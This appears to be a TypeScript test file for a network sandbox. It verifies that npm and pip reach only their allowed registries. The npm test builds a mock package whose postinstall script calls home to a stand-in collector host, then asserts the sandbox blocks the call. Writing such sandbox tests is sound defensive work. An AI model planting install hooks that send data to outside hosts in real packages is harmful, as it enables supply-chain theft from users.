/** Package managers and git do their work inside of `run`, where exactly their servers are allowed, and what comes with a package reaches nothing else. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { createReadStream, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { RequestListener } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { Outside, UNPROXIED, workNeeds } from './outside.ts';

/** A folder of these files. */
function filesIn(t: TestContext, files: Readonly<Record<string, string>>): string {
  const folder = mkdtempSync(join(tmpdir(), 'sallyport-packages-'));
  t.after(() => rmSync(folder, { recursive: true }));
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text);
  }
  return folder;
}

/** Answers with the files of a folder, by their paths. */
function fileServer(folder: string): RequestListener {
  return (request, response) => {
    const path = join(folder, decodeURIComponent(new URL(request.url!, 'http://x').pathname));
    if (path.startsWith(`${folder}/`) && existsSync(path)) createReadStream(path).on('error', () => response.destroy()).pipe(response);
    else response.writeHead(404).end();
  };
}

test('npm ci: the registry is reached, and what an install script calls is not', { skip: workNeeds('npm', 'tar') }, async (t) => {
  const outside = await Outside.start(t);
  const stolen: string[] = [];
  await outside.http('collector.example', (request, response) => {
    stolen.push(request.url!);
    response.end();
  });
  const callHome = `require('http').get('http://collector.example/secret', (r) => require('fs').writeFileSync('said', String(r.statusCode)))
    .on('error', (error) => require('fs').writeFileSync('said', error.code));`;
  const manifest = { name: 'left', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node call-home.js' } };
  const folder = filesIn(t, {
    'package/package.json': JSON.stringify(manifest),
    'package/index.js': "module.exports = 'left works';\n",
    'package/call-home.js': callHome,
  });
  const tarball = execFileSync('tar', ['-cz', '-C', folder, 'package']);
  const ca = await outside.https('registry.example', (request, response) => {
    if (request.url === '/left/-/left-1.0.0.tgz') response.end(tarball);
    else response.writeHead(404).end();
  });
  const resolved = 'https://registry.example/left/-/left-1.0.0.tgz';
  const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
  const project = { name: 'project', version: '1.0.0', dependencies: { left: '1.0.0' }, allowScripts: { left: true } };
  outside.file('package.json', JSON.stringify(project));
  const packages = { '': project, 'node_modules/left': { version: '1.0.0', resolved, integrity, hasInstallScript: true } };
  outside.file('package-lock.json', JSON.stringify({ ...project, lockfileVersion: 3, requires: true, packages }));

  const install = 'npm ci --registry https://registry.example/ --no-audit --no-fund --no-update-notifier';
  const use = `node -p 'require("left")'; cat node_modules/left/said; echo`;
  for (const [prefix, said] of [
    ['', '403'],
    [UNPROXIED, 'ENOTFOUND'],
  ] as const) {
    const script = `rm -rf node_modules .npm; ${prefix} ${install}; ${use}`;
    const { code, stdout, stderr, calls } = await outside.run(script, ['https://registry.example'], {
      environment: { npm_config_cafile: ca, NODE_EXTRA_CA_CERTS: ca },
    });
    assert.equal(code, 0, stderr + stdout);
    assert.match(stdout, new RegExp(`left works\n${said}\n$`));
    const refused = prefix === '' ? 'collector.example:80 refused' : 'collector.example:0 unresolved';
    assert.deepEqual(calls, [refused, 'registry.example:443 allowed'], stderr);
  }
  assert.deepEqual(stolen, []);
  assert.ok(!outside.asked.has('collector.example'));
});

test('pip download: from the one index that is allowed', { skip: workNeeds('python3', 'pip3') }, async (t) => {
  const outside = await Outside.start(t);
  const wheel = 'right-1.0.0-py3-none-any.whl';
  const metadata = 'right-1.0.0.dist-info';
  const folder = filesIn(t, {
    'right.py': "said = 'right works'\n",
    [`${metadata}/METADATA`]: 'Metadata-Version: 2.1\nName: right\nVersion: 1.0.0\n',
    [`${metadata}/WHEEL`]: 'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    [`${metadata}/RECORD`]: '',
  });
  execFileSync('python3', ['-m', 'zipfile', '-c', wheel, 'right.py', metadata], { cwd: folder });
  const bytes = readFileSync(join(folder, wheel));
  const hash = createHash('sha256').update(bytes).digest('hex');
  const ca = await outside.https('index.example', (request, response) => {
    if (request.url === '/simple/right/')
      response.setHeader('content-type', 'text/html').end(`<a href="../../files/${wheel}#sha256=${hash}">${wheel}</a>`);
    else if (request.url === `/files/${wheel}`) response.end(bytes);
    else response.writeHead(404).end();
  });
  const download = 'pip3 download -q --disable-pip-version-check --no-cache-dir --retries 0 -d got';
  for (const prefix of ['', UNPROXIED]) {
    const script = `rm -rf got; ${prefix} ${download} -i https://index.example/simple/ right; PYTHONPATH=got/${wheel} python3 -c 'import right; print(right.said)'
      ${prefix} ${download} -i https://other.example/simple/ right >/dev/null 2>&1 || echo refused`;
    const { code, stdout, stderr, calls } = await outside.run(script, ['https://index.example'], { environment: { PIP_CERT: ca } });
    assert.equal(code, 0, stderr + stdout);
    assert.equal(stdout, 'right works\nrefused\n', stderr);
    const refused = prefix === '' ? 'other.example:443 refused' : 'other.example:0 unresolved';
    assert.deepEqual(calls, ['index.example:443 allowed', refused], stderr);
  }
  assert.ok(!outside.asked.has('other.example'));
});
